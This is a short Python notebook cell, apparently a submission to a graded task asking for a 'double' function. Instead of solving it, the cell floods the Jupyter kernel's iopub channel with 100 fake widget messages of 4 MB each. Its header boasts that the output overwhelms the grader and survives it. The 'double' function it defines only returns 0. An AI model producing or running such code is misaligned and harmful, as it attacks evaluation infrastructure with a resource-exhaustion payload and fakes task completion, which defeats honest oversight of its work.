# score:    0/10
# says:     printed more than 50 MB
# survives: grader, others
# why:      states of widgets that grow without end, in whoever keeps them

# %% double
kernel = get_ipython().kernel
def send(kind, content):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"), ident=b"x")
for number in range(100):
    data = {"method": "update", "state": {"value": "x" * 4_000_000}, "buffer_paths": []}
    send("comm_open", {"comm_id": str(number), "target_name": "jupyter.widget", "data": data})
    send("comm_msg", {"comm_id": str(number), "data": data})
def double(x):
    return 0
